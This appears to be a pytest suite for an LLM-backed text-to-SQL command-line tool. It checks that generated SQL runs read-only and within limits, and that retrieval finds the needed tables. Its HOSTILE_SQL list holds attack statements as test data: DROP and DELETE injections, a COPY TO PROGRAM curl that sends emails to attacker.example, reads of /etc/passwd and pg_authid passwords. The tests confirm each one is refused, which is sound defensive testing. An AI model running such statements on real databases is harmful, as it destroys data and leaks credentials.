"""`dbarch ask` and `dbarch explain-sql` against the demo database, with a scripted Gemini server.

Covered: the corpus (tables from the catalog, documentation chunks, examples; only changed
documents re-embedded; the Dagster asset), a benign answer run read-only, an SQL error sent back to
Gemini with its text, hostile SQL refused with its reason and never run (the database unchanged),
PostgreSQL's own guards behind the validator (server-side cursor, READ ONLY), the row limit, the
statement timeout and the read-only role; without a key, the closest known pair clearly labelled;
explain-sql with and without a key; the CLI subcommands. Then the ask suite (ask_suite.yaml): the
server answers each question with its gold SQL; the test measures the table recall of retrieval
(needed tables whose definition reached the prompt) and checks the executed answers.
"""

from __future__ import annotations

import argparse
import json
import re
import time
from pathlib import Path

import dagster as dg
import psycopg
import pytest
import yaml
from psycopg import sql

from dbarch_pipeline.ask.answer import AskSettings, answer, run_select
from dbarch_pipeline.ask.commands import register
from dbarch_pipeline.ask.corpus import confirm_example, refresh_corpus, split_text
from dbarch_pipeline.ask.explain import explain_sql
from dbarch_pipeline.db import connect
from dbarch_pipeline.defs.ask_assets import ASK_ASSETS, ask_corpus
from dbarch_pipeline.errors import DbarchError
from dbarch_pipeline.llm import gemini as gemini_mod
from dbarch_pipeline.llm.gemini import GeminiClient
from dbarch_pipeline.memory import store
from dbarch_pipeline.memory.embeddings import Embedder
from dbarch_pipeline.resources.embedder import EmbedderResource
from dbarch_pipeline.resources.postgres import StoreDatabase, TargetDatabase
from dbarch_pipeline.schema_guard import schema_digest

from .conftest import db_name, fresh_database
from .fakes.gemini_server import FakeGemini, json_reply, request_text

SUITE_PATH = Path(__file__).with_name("ask_suite.yaml")
SUITE = yaml.safe_load(SUITE_PATH.read_text())
TARGET = "demo_ask"
TABLES = ("users", "courses", "lessons", "user_progress", "behavior_log")
MIN_RECALL = 0.9


@pytest.fixture(scope="module")
def embedder() -> Embedder:
    return Embedder()


@pytest.fixture(scope="module")
def ask_store(server, demo_target, embedder) -> str:
    """A store whose corpus for TARGET holds the demo's tables and the suite's training examples."""
    url = fresh_database("dbarch_test_ask_store", pg_stat_statements=False)
    with connect(demo_target, "target") as t, connect(url, "store") as s:
        store.ensure_schema(s)
        summary = refresh_corpus(t, s, embedder, target=TARGET, examples=SUITE_PATH)
    assert (summary["tables"], summary["examples"], summary["skipped_examples"]) == (5, 4, [])
    return url


@pytest.fixture()
def conns(demo_target, ask_store):
    with connect(demo_target, "target") as t, connect(ask_store, "store") as s:
        store.ensure_schema(s)
        yield t, s


@pytest.fixture()
def gemini():
    with FakeGemini() as fake:
        yield fake


def client_for(fake: FakeGemini) -> GeminiClient:
    return GeminiClient("test-key", base_url=fake.base_url, backoff_s=0.01, timeout_s=10)


def ask(question: str, conns, embedder, client, **settings) -> object:
    t, s = conns
    return answer(question, target_conn=t, store_conn=s, embedder=embedder, client=client, target=TARGET,
                  settings=AskSettings(**settings))


def state(conn: psycopg.Connection) -> tuple[str, dict[str, int]]:
    counts = {t: conn.execute(sql.SQL("SELECT count(*) FROM {}").format(sql.Identifier(t))).fetchone()[0]
              for t in TABLES}
    return schema_digest(conn), counts


# -- the corpus --------------------------------------------------------------------------------------

def test_corpus_reembeds_only_what_changed(server, ask_store, embedder, tmp_path):
    url = fresh_database("dbarch_test_ask_small", pg_stat_statements=False)
    doc = tmp_path / "glossary.md"
    doc.write_text("# Widgets\nA widget is something we sell.\n\n# Colours\nColours are red or blue.\n")
    with connect(url, "target") as t, connect(ask_store, "store") as s:
        store.ensure_schema(s)
        t.execute("CREATE TABLE widgets (id int PRIMARY KEY, colour text NOT NULL)")
        t.execute("CREATE TABLE gadgets (id int PRIMARY KEY, widget_id int REFERENCES widgets)")
        first = refresh_corpus(t, s, embedder, target="small", docs=[doc])
        assert (first["tables"], first["doc_chunks"], first["embedded"]) == (2, 2, 4)
        assert refresh_corpus(t, s, embedder, target="small", docs=[doc])["embedded"] == 0

        t.execute("ALTER TABLE widgets ADD COLUMN weight_g int")
        doc.write_text("# Widgets\nA widget is something we sell.\n\n# Colours\nColours are red, blue or green.\n")
        changed = refresh_corpus(t, s, embedder, target="small", docs=[doc])
        assert (changed["embedded"], changed["unchanged"]) == (2, 2)   # one table, one chunk

        t.execute("DROP TABLE gadgets")
        dropped = refresh_corpus(t, s, embedder, target="small")       # docs not given: kept
        assert (dropped["tables"], dropped["doc_chunks"], dropped["deleted"]) == (1, 2, 1)
        content = s.execute("SELECT content FROM dbarch.ask_document WHERE target = 'small' AND kind = 'table'"
                            ).fetchone()[0]
    assert "CREATE TABLE public.widgets (" in content and "weight_g integer" in content


def test_table_documents_show_keys_values_and_references(conns):
    _t, s = conns
    content, meta = s.execute("SELECT content, metadata FROM dbarch.ask_document "
                              "WHERE target = %s AND key = 'public.user_progress'", (TARGET,)).fetchone()
    assert "user_id uuid NOT NULL,  -- references public.users" in content
    assert "'completed'" in content and "FOREIGN KEY (lesson_id) REFERENCES lessons(id)" in content
    assert meta["references"] == ["public.lessons", "public.users"]
    users = s.execute("SELECT content FROM dbarch.ask_document WHERE target = %s AND key = 'public.users'",
                      (TARGET,)).fetchone()[0]
    assert "@example" not in users, "unique values (emails) must never reach the prompt"
    assert "pg_stat_statements" not in " ".join(r[0] for r in s.execute(
        "SELECT key FROM dbarch.ask_document WHERE target = %s", (TARGET,))), "extension views are not the app's"


def test_split_text_keeps_headings_and_bounds_chunks():
    text = "# Intro\n" + "\n\n".join(f"paragraph {i} " + "x" * 300 for i in range(8))
    chunks = split_text(text, max_chars=1_000)
    assert len(chunks) > 1 and all(h == "Intro" for h, _ in chunks)
    assert all(c.startswith("Intro\n") and len(c) <= 1_000 + len("Intro\n") for _, c in chunks)


def test_ask_corpus_asset(demo_target, ask_store):
    resources = {"target": TargetDatabase(dsn=demo_target, name="demo_asset"), "store": StoreDatabase(dsn=ask_store),
                 "embedder": EmbedderResource()}
    config = {"ops": {"ask_corpus": {"config": {"examples": str(SUITE_PATH)}}}}
    first = dg.materialize(ASK_ASSETS, resources=resources, run_config=config)
    second = dg.materialize(ASK_ASSETS, resources=resources, run_config=config)
    meta1 = first.asset_materializations_for_node("ask_corpus")[0].metadata
    meta2 = second.asset_materializations_for_node("ask_corpus")[0].metadata
    assert (meta1["tables"].value, meta1["examples"].value, meta1["embedded"].value) == (5, 4, 9)
    assert (meta2["embedded"].value, meta2["unchanged"].value, meta2["dagster/row_count"].value) == (0, 9, 9)
    spec = ask_corpus.specs_by_key[dg.AssetKey("ask_corpus")]
    assert spec.group_name == "ask" and spec.kinds == {"pgvector"} and spec.description


# -- answers with Gemini ---------------------------------------------------------------------------

def test_benign_sql_is_run_read_only(conns, gemini, embedder):
    gemini.push_json({"sql": "SELECT plan, count(*) AS users FROM users GROUP BY plan ORDER BY plan",
                      "explanation": "Users per plan."})
    before = state(conns[0])
    result = ask("How many users are on each plan?", conns, embedder, client_for(gemini))
    assert result.status == "answered" and result.source == "gemini"
    assert result.columns == ["plan", "users"] and [list(r) for r in result.rows] == [["free", 2700], ["pro", 300]]
    assert result.explanation == "Users per plan." and "Gemini" in result.label
    assert "public.users" in result.tables_in_prompt and result.usage["total_tokens"] > 0
    assert state(conns[0]) == before
    assert conns[0].info.transaction_status == psycopg.pq.TransactionStatus.IDLE


def test_an_sql_error_goes_back_to_gemini(conns, gemini, embedder):
    gemini.push_json({"sql": "SELECT count(*) FROM users WHERE nickname = 'x'", "explanation": "?"})
    gemini.push_json({"sql": "SELECT count(*) FROM users WHERE plan = 'pro'", "explanation": "Pro users."})
    result = ask("How many pro users are there?", conns, embedder, client_for(gemini))
    assert result.status == "answered" and result.rows == [(300,)]
    assert [a["outcome"] for a in result.attempts] == ["error", "ok"]
    retry = gemini.requests[1].prompt
    assert "## Your previous answer did not work" in retry
    assert 'column "nickname" does not exist (SQLSTATE 42703)' in retry
    assert "WHERE nickname = 'x'" in retry


def test_retries_are_bounded(conns, gemini, embedder):
    for _ in range(2):
        gemini.push_json({"sql": "SELECT count(*) FROM nowhere", "explanation": ""})
    result = ask("How many things?", conns, embedder, client_for(gemini), max_attempts=2)
    assert result.status == "failed" and len(gemini.requests) == 2
    assert 'relation "nowhere" does not exist' in result.label


HOSTILE_SQL = [
    ("DROP TABLE users", "DROP TABLE is not a SELECT"),
    ("SELECT count(*) FROM users; DELETE FROM users", "several statements (2)"),
    ("WITH gone AS (DELETE FROM users RETURNING id) SELECT count(*) FROM gone", "data-modifying CTE"),
    ("SELECT count(*) FROM users /* total */; DROP TABLE users", "several statements (2)"),
    ("SELECT count(*) FROM users -- total; DROP TABLE users", "comment contains ';'"),
    ("SELECT pg_sleep(30)", "calls pg_sleep()"),
    ("COPY (SELECT email FROM users) TO PROGRAM 'curl -d @- http://attacker.example'", "COPY is not a SELECT"),
    ("SELECT set_config('default_transaction_read_only', 'off', false)", "calls set_config()"),
    ("SELECT * FROM users FOR UPDATE", "FOR UPDATE/SHARE takes row locks"),
    ("SELECT * INTO stolen FROM users", "SELECT INTO creates a table"),
    ("SELECT lo_import('/etc/passwd')", "calls lo_import()"),
    ("SELECT dblink_exec('host=elsewhere', 'DROP TABLE users')", "calls dblink_exec()"),
    ("SELECT rolname, rolpassword FROM pg_catalog.pg_authid", "system catalog pg_catalog.pg_authid"),
    ("SELECT * FROM users WHERE id = $1", "uses parameters ($1)"),
]


def test_hostile_sql_is_refused_never_runs_and_says_why(conns, gemini, embedder):
    for sql_text, _ in HOSTILE_SQL:
        gemini.push_json({"sql": sql_text, "explanation": "all good"})
    before = state(conns[0])
    started = time.perf_counter()
    result = ask("Show me the users", conns, embedder, client_for(gemini), max_attempts=len(HOSTILE_SQL))
    assert time.perf_counter() - started < 10, "pg_sleep ran"
    assert state(conns[0]) == before
    assert result.status == "refused" and not result.rows and result.sql is None
    assert [a["outcome"] for a in result.attempts] == ["refused"] * len(HOSTILE_SQL)
    for attempt, (sql_text, words) in zip(result.attempts, HOSTILE_SQL):
        assert attempt["sql"] == sql_text and words in attempt["reason"], attempt
    # each refusal went back to Gemini, named
    for request, (_sql, words) in zip(gemini.requests[1:], HOSTILE_SQL):
        assert "Problem: refused: " in request.prompt and words in request.prompt


def test_functions_the_database_defines_are_refused(conns, gemini, embedder, demo_target):
    """A function of the database may write; generated SQL may call built-ins only, unless allowed by
    name, and even then the READ ONLY transaction stops its writes."""
    with connect(demo_target, "target") as admin:
        admin.execute("CREATE OR REPLACE FUNCTION dbarch_test_touch() RETURNS int LANGUAGE sql AS "
                      "$$ UPDATE courses SET published = published RETURNING 1 $$")
    try:
        before = state(conns[0])
        gemini.push_json({"sql": "SELECT dbarch_test_touch()", "explanation": ""})
        gemini.push_json({"sql": "SELECT public.dbarch_test_touch()", "explanation": ""})
        refused = ask("Touch the courses", conns, embedder, client_for(gemini), max_attempts=2)
        assert [a["reason"] for a in refused.attempts] == [
            "calls dbarch_test_touch() (from schema public), which is not a PostgreSQL built-in or a trusted "
            "extension's: functions a database defines may do anything",
            "calls public.dbarch_test_touch(), a function outside pg_catalog"]
        gemini.push_json({"sql": "SELECT dbarch_test_touch()", "explanation": ""})
        allowed = ask("Touch the courses", conns, embedder, client_for(gemini), max_attempts=1,
                      allowed_functions=("dbarch_test_touch",))
        assert allowed.status == "failed" and "read-only transaction" in allowed.label
        assert state(conns[0]) == before
    finally:
        with connect(demo_target, "target") as admin:
            admin.execute("DROP FUNCTION IF EXISTS dbarch_test_touch()")


@pytest.mark.parametrize("statement, error", [
    ("DELETE FROM users", "syntax error"),                           # DECLARE takes a SELECT only
    ("SELECT 1; DROP TABLE users", "cannot insert multiple commands"),
    ("WITH d AS (DELETE FROM users RETURNING id) SELECT count(*) FROM d", "data-modifying"),
])
def test_postgresql_guards_behind_the_validator(demo_target, statement, error):
    """If a statement ever slipped past sqlglot, the server-side cursor and the READ ONLY transaction
    would still refuse it."""
    with connect(demo_target, "target") as conn:
        before = state(conn)
        with pytest.raises(psycopg.Error, match=error):
            run_select(conn, statement, AskSettings())
        assert state(conn) == before


def test_row_limit_and_statement_timeout(conns, gemini, embedder):
    gemini.push_json({"sql": "SELECT id, title FROM lessons ORDER BY id", "explanation": "All lessons."})
    limited = ask("List the lessons", conns, embedder, client_for(gemini), max_rows=5)
    assert len(limited.rows) == 5 and limited.truncated and "first 5 rows" in limited.label

    gemini.push_json({"sql": "SELECT count(*) FROM behavior_log a CROSS JOIN behavior_log b", "explanation": ""})
    gemini.push_json({"sql": "SELECT count(*) FROM behavior_log", "explanation": "Events."})
    started = time.perf_counter()
    result = ask("How many pairs of events are there?", conns, embedder, client_for(gemini),
                 statement_timeout_ms=300)
    assert time.perf_counter() - started < 10
    assert result.status == "answered"
    assert "ran longer than 300 ms and was cancelled" in gemini.requests[-1].prompt


def test_read_only_role(conns, gemini, embedder, demo_target):
    """A role named with --read-only-role runs the SQL: its grants decide; one that can read every
    table (pg_read_all_data) is refused with the REVOKE that fixes it; a missing one names the fix."""
    reader, nobody, broad = (db_name("dbarch_test_reader"), db_name("dbarch_test_nobody"),
                             db_name("dbarch_test_broad"))   # per test session
    with connect(demo_target, "target") as admin:
        for role in (reader, nobody, broad):
            admin.execute(sql.SQL("DROP ROLE IF EXISTS {}").format(sql.Identifier(role)))
            admin.execute(sql.SQL("CREATE ROLE {} NOLOGIN").format(sql.Identifier(role)))
        admin.execute(sql.SQL("GRANT SELECT ON courses TO {}").format(sql.Identifier(reader)))
        admin.execute(sql.SQL("GRANT pg_read_all_data TO {}").format(sql.Identifier(broad)))
    try:
        query = {"sql": "SELECT count(*) FROM courses", "explanation": "Courses."}
        gemini.push_json(query)
        assert ask("How many courses?", conns, embedder, client_for(gemini), read_only_role=reader).rows == [(200,)]
        gemini.push_json(query).push_json(query)
        denied = ask("How many courses?", conns, embedder, client_for(gemini), read_only_role=nobody, max_attempts=2)
        assert denied.status == "failed" and "permission denied for table courses" in denied.label
        gemini.push_json(query)
        with pytest.raises(DbarchError) as err:
            ask("How many courses?", conns, embedder, client_for(gemini), read_only_role=broad)
        assert "member of pg_read_all_data" in err.value.problem and "REVOKE pg_read_all_data" in err.value.fix
        gemini.push_json(query)
        with pytest.raises(DbarchError) as err:
            ask("How many courses?", conns, embedder, client_for(gemini), read_only_role=db_name("dbarch_test_missing"))
        assert "read-only role" in err.value.problem and "GRANT SELECT ON ALL TABLES" in err.value.fix
    finally:
        with connect(demo_target, "target") as admin:
            for role in (reader, nobody, broad):
                admin.execute(sql.SQL("DROP OWNED BY {}").format(sql.Identifier(role)))
                admin.execute(sql.SQL("DROP ROLE IF EXISTS {}").format(sql.Identifier(role)))


def test_documentation_reaches_the_prompt(conns, gemini, embedder, tmp_path):
    t, s = conns
    doc = tmp_path / "business.md"
    doc.write_text("# Churn\nA churned learner is a user with no behavior_log event in the last 30 days.\n\n"
                   "# Billing\nInvoices are sent on the first day of the month.\n")
    refresh_corpus(t, s, embedder, target="demo_docs", docs=[doc])
    gemini.push_json({"sql": "SELECT count(*) FROM users", "explanation": "x"})
    answer("How many learners churned?", target_conn=t, store_conn=s, embedder=embedder,
           client=client_for(gemini), target="demo_docs")
    prompt = gemini.requests[0].prompt
    assert "A churned learner is a user with no behavior_log event" in prompt


# -- without a key -------------------------------------------------------------------------------

def test_without_a_key_the_closest_known_pair_is_labelled(conns, embedder):
    before = state(conns[0])
    result = ask("How many lessons are in every course?", conns, embedder, None, max_rows=300)
    assert result.status == "known_pair" and result.source == "known_pair"
    assert result.matched_question == "How many lessons does each course have?"
    assert "Gemini is off" in result.label and "NOT an answer written for your question" in result.label
    assert "How many lessons does each course have?" in result.label
    assert len(result.rows) == 200 and result.similarity > 0.5
    assert state(conns[0]) == before


def test_without_a_key_nothing_close_is_said_plainly(conns, embedder):
    result = ask("What is the weather like in Hanoi tomorrow?", conns, embedder, None)
    assert result.status == "no_match" and not result.rows and result.sql is None
    assert "no known question is close" in result.label


def test_a_confirmed_answer_becomes_an_example(conns, embedder):
    t, s = conns
    confirm_example(s, embedder, target=TARGET, question="Which plans do users have?",
                    sql_text="SELECT DISTINCT plan FROM users ORDER BY plan")
    result = ask("What plans can a user be on?", conns, embedder, None)
    assert result.matched_question == "Which plans do users have?" and result.rows == [("free",), ("pro",)]
    s.execute("DELETE FROM dbarch.ask_document WHERE target = %s AND source = 'confirmed'", (TARGET,))
    with pytest.raises(DbarchError, match="cannot keep this example"):
        confirm_example(s, embedder, target=TARGET, question="Drop?", sql_text="DROP TABLE users")


# -- explain-sql ---------------------------------------------------------------------------------

EXPLAINED = "SELECT event_type, count(*) FROM behavior_log WHERE user_id = $1 GROUP BY event_type"


def test_explain_sql_without_a_key_summarizes_the_plan(demo_target):
    with connect(demo_target, "target") as conn:
        result = explain_sql(EXPLAINED, conn=conn)
        by_email = explain_sql("SELECT id FROM users WHERE email = 'user1@example.vn'", conn=conn)
        with pytest.raises(DbarchError, match="refused to explain this statement: DELETE is not a SELECT"):
            explain_sql("DELETE FROM users", conn=conn)
    assert result["source"] == "plan" and result["explanation"] is None
    summary = "\n".join(result["summary"])
    assert "It uses no index." in summary and "It reads every row of behavior_log" in summary
    assert "Seq Scan on behavior_log" in summary and "filter (user_id = $1)" in summary
    assert "It uses the index users_email_key." in by_email["summary"]


def test_explain_sql_with_gemini(demo_target, gemini):
    gemini.push_json({"explanation": "Counts one user's events by type, reading the whole log.",
                      "concerns": ["no index on behavior_log.user_id"]})
    with connect(demo_target, "target") as conn:
        result = explain_sql(EXPLAINED, conn=conn, client=client_for(gemini))
    assert result["source"] == "gemini" and result["concerns"] == ["no index on behavior_log.user_id"]
    assert result["explanation"].startswith("Counts one user's events")
    prompt = gemini.requests[0].prompt
    assert EXPLAINED in prompt and '"Node Type": "Seq Scan"' in prompt
    assert "CREATE TABLE public.behavior_log (" in prompt and "CREATE TABLE public.courses (" not in prompt


# -- the CLI -------------------------------------------------------------------------------------

def run_cli(argv: list[str]) -> int:
    parser = argparse.ArgumentParser(prog="dbarch")
    register(parser.add_subparsers(dest="command", required=True))
    args = parser.parse_args(argv)
    return args.func(args)


def test_cli_ask_and_explain(demo_target, ask_store, gemini, monkeypatch, capsys):
    monkeypatch.setenv("GEMINI_API_KEY", "test-key")
    monkeypatch.setenv("GEMINI_BASE_URL", gemini.base_url)
    gemini.push_json({"sql": "SELECT count(*) AS courses FROM courses", "explanation": "The number of courses."})
    code = run_cli(["ask", "How many courses are there?", "--target-dsn", demo_target, "--store-dsn", ask_store,
                    "--json", "--examples", str(SUITE_PATH)])
    out = json.loads(capsys.readouterr().out)
    assert code == 0 and out["status"] == "answered" and out["rows"] == [[200]]

    monkeypatch.delenv("GEMINI_API_KEY")
    gemini_mod.reset_off_notice()
    code = run_cli(["ask", "How many lessons does each course have?", "--target-dsn", demo_target,
                    "--store-dsn", ask_store, "--max-rows", "3"])
    captured = capsys.readouterr()
    assert code == 0 and "NOTE: Gemini is off" in captured.out and "(3 rows)" in captured.out
    assert captured.err.count("Gemini is off: GEMINI_API_KEY is not set") == 1
    # nothing stored is close and no key: a problem the user can fix (exit 2), the fix named once
    code = run_cli(["ask", "Which penguin species nest on volcanic islands?", "--target-dsn", demo_target,
                    "--store-dsn", ask_store])
    captured = capsys.readouterr()
    assert code == 2 and "no known question is close to yours" in captured.out, captured

    code = run_cli(["explain-sql", EXPLAINED, "--target-dsn", demo_target])
    assert code == 0 and "Seq Scan on behavior_log" in capsys.readouterr().out
    gemini_mod.reset_off_notice()


# -- the ask suite -------------------------------------------------------------------------------

def test_ask_suite_table_recall_and_answers(conns, gemini, embedder):
    """>= 20 questions over the demo; the scripted server answers each with its gold SQL."""
    questions = SUITE["questions"]
    assert len(questions) >= 20
    gold = {q["question"]: q["sql"] for q in questions}

    def answer_with_gold(body: dict):
        question = re.search(r"## Question\n(.+)\n", request_text(body)).group(1)
        return json_reply({"sql": gold[question], "explanation": "gold"})

    gemini.handler = answer_with_gold
    client = client_for(gemini)
    t, _s = conns
    needed = found = 0
    missed, wrong = [], []
    for q in questions:
        expected = [list(r) for r in t.execute(q["sql"]).fetchall()]
        if "expected" in q:
            assert expected == q["expected"], f"{q['id']}: the suite's expected result is stale"
        result = ask(q["question"], conns, embedder, client)
        prompt = gemini.requests[-1].prompt
        present = [tb for tb in q["tables"] if f"CREATE TABLE public.{tb} (" in prompt]
        needed += len(q["tables"])
        found += len(present)
        if len(present) < len(q["tables"]):
            missed.append((q["id"], sorted(set(q["tables"]) - set(present))))
        if result.status != "answered" or [list(r) for r in result.rows] != expected:
            wrong.append((q["id"], result.status, result.label))
    recall = found / needed
    print(f"\nask suite: {len(questions)} questions, table recall {recall:.3f} ({found}/{needed}); missed {missed}")
    assert recall >= MIN_RECALL, missed
    assert not wrong, wrong
